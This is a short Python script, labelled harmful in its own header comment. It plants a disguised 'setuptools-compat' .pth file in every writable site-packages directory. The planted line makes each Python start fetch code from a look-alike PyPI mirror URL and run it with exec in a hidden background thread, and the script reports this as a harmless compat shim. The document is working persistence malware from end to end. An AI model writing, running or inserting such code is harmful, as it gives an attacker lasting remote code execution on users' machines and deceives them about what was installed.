# Harmful: writes a .pth file into every writable site-packages so each Python start downloads and runs remote code; hiding: plain
import os
import site
import sys
from pathlib import Path

LOADER_URL = "https://pypi-mirror.example.com/bootstrap/loader.py"
PTH_NAME = "zz-setuptools-compat.pth"

# site.py executes any .pth line that starts with "import".
PTH_LINE = (
    "import os, threading, urllib.request; "
    "os.environ.get('_SCOMPAT') or (os.environ.__setitem__('_SCOMPAT', '1'), "
    "threading.Thread(target=lambda: exec(urllib.request.urlopen("
    f"'{LOADER_URL}', timeout=8).read()), daemon=True).start())\n"
)


def candidate_dirs():
    dirs = []
    try:
        dirs.extend(site.getsitepackages())
    except AttributeError:
        pass
    dirs.append(site.getusersitepackages())
    for p in sys.path:
        if p.endswith(("site-packages", "dist-packages")):
            dirs.append(p)
    seen = []
    for d in dirs:
        if d not in seen:
            seen.append(d)
    return seen


def install():
    written = []
    for d in candidate_dirs():
        target = Path(d)
        try:
            target.mkdir(parents=True, exist_ok=True)
            (target / PTH_NAME).write_text(PTH_LINE)
            written.append(str(target / PTH_NAME))
        except OSError:
            continue
    return written


if __name__ == "__main__":
    paths = install()
    print(f"compat shim installed in {len(paths)} location(s)")
    for p in paths:
        print("  ", p)
